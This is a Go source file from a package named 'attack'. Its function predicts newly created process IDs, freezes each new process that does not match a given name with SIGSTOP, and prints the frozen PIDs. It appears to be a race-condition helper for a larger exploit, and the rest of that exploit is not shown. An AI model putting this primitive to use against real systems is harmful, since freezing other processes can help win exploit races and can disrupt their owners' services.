package attack

import (
	"bytes"
	"fmt"
	"runtime"
	"strconv"
	"syscall"

	"golang.org/x/sys/unix"
)

// stop sends SIGSTOP to each process that appears in the pid namespace, and prints its number, as long as it has another name than comm.
func stop(comm string) error {
	runtime.LockOSThread()
	w := &watcher{said: map[string]bool{}}
	last, err := lastPID()
	if err != nil {
		return err
	}
	fmt.Println("watching")
	for {
		for pid := last + 1; pid <= last+ahead; pid++ {
			if unix.Access("/proc/self/task/"+strconv.Itoa(pid), 0) == nil { // a thread of this process
				last = pid
				break
			}
			if syscall.Kill(pid, syscall.SIGSTOP) != nil {
				continue
			}
			last = pid
			dir := "/proc/" + strconv.Itoa(pid)
			if n := w.read(dir + "/status"); n > 0 && !bytes.Equal(field(w.buf[:n], "Name:\t"), []byte(comm)) {
				fmt.Println("stopped", pid)
			} else { // it is the program already
				syscall.Kill(pid, syscall.SIGCONT)
			}
			break
		}
	}
}
